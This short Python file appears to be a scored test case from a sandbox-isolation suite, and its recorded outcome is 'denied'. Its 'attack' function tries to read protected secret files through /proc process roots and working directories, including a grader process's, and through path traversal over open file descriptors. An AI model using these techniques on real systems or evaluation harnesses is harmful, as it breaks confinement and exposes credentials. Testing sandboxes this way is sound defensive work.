"""Reads the secrets by other names: through /proc, through open descriptors, and through other processes' folders."""

# outcome: denied
# points: 0
# noticed: file

import os

UP = "../../../../.."


def attack(world):
    worked = []
    processes = ["self", "thread-self", "1", str(os.getppid()), str(world["grader"])]
    roots = [f"/proc/{process}/{name}" for process in processes for name in ("root", f"cwd/{UP}")]
    roots += [f"/proc/self/fd/{number}/{UP}" for number in range(64)]
    for path in world["secrets"]:
        for root in roots:
            try:
                open(root + path).close()
            except OSError:
                continue
            worked.append(root + path)
        for number in range(64):
            try:
                os.close(os.open(UP + path, os.O_RDONLY, dir_fd=number))
            except OSError:
                continue
            worked.append(f"{number}: {path}")
    return worked
